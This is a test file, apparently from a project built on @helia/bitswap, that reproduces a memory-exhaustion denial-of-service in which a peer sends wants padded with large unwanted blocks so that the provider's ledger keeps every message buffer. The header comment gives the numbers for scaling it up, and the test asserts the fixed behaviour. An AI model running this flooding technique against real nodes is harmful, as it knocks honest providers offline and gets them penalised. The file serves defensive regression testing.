// ATTACK (severity: high — any stranger makes an honest provider run out of memory).
//
// @helia/bitswap 4.x keeps each want a peer sends in that peer's ledger until it is served or
// cancelled (peer-want-lists/ledger.js), up to 1024 per peer, and a node that does not hold the
// block never serves it. The want's CID is decoded by protons as a view (`subarray`) into the
// bytes of the whole message it came in, so the ledger holds every such message whole: a message
// may be 4 MiB (our nodes accept blocks that large), padded with anything (a block nobody wants,
// which is hashed and dropped). A stranger — anyone who reaches the provider's listen address —
// that sends 1024 messages of 4 MiB, each wanting one random CID, pins 4 GiB of the provider's
// memory per peer id while it stays connected, and the provider takes 300 connections: the
// provider's process runs out of memory and serves nobody, so its checkpoints are "not served" and
// it is slashed. Measured here: 40 wants sent with 1 MiB each held 41 MiB until the stranger left.
//
// Expected once fixed: a want held by a ledger holds its CID's few bytes, not its message; a want
// for a CID this node can never serve is not kept at all.
import { randomBytes } from "node:crypto";
import v8 from "node:v8";
import vm from "node:vm";

import { expect } from "chai";
import { base64 } from "multiformats/bases/base64";
import { CID } from "multiformats/cid";
import * as raw from "multiformats/codecs/raw";
import { sha256 } from "multiformats/hashes/sha2";

import { networkOf, Nodes, sleep, startPeerOf } from "./helpers.ts";

v8.setFlagsFromString("--expose-gc");
const gc = vm.runInNewContext("gc") as () => void;

/** MiB of ArrayBuffer memory the process holds once garbage is collected. */
function heldMiB(): number {
  gc();
  gc();
  return process.memoryUsage().arrayBuffers / 2 ** 20;
}

const randomCid = async () => CID.createV1(raw.code, await sha256.digest(randomBytes(32)));

describe("attack: a stranger's wants hold whole messages in an honest node's memory", function () {
  this.timeout(60_000);
  const nodes = new Nodes();
  afterEach(() => nodes.stopAll());

  it("forty wants, each sent with 1 MiB of padding, do not hold 40 MiB of the provider's memory", async () => {
    const provider = await nodes.start();
    const stranger = await startPeerOf(nodes, [provider]);
    await sleep(500);
    const before = heldMiB();
    const padding = new Uint8Array(randomBytes(1024 * 1024));
    const unwanted = await randomCid();
    for (let i = 0; i < 40; i++) {
      const cid = await randomCid();
      await networkOf(stranger).sendMessage(provider.helia.libp2p.peerId, {
        full: false,
        pendingBytes: 0,
        wantlist: new Map([
          [
            base64.encode(cid.multihash.bytes),
            { cid: cid.bytes, priority: 1, wantType: 0, cancel: false, sendDontHave: false },
          ],
        ]),
        // A block nobody asked for: the provider hashes it and drops it.
        blocks: new Map([
          [unwanted.toString(), { prefix: new Uint8Array([1, 0x55, 0x12, 32]), data: padding }],
        ]),
        blockPresences: new Map(),
      });
    }
    await sleep(1_000);
    const held = heldMiB() - before;
    expect(stranger.connectedTo(provider.peerId), "the stranger is still connected").to.equal(true);
    expect(held, "MiB held by the provider for the stranger's 40 wants").to.be.below(8);
  });
});
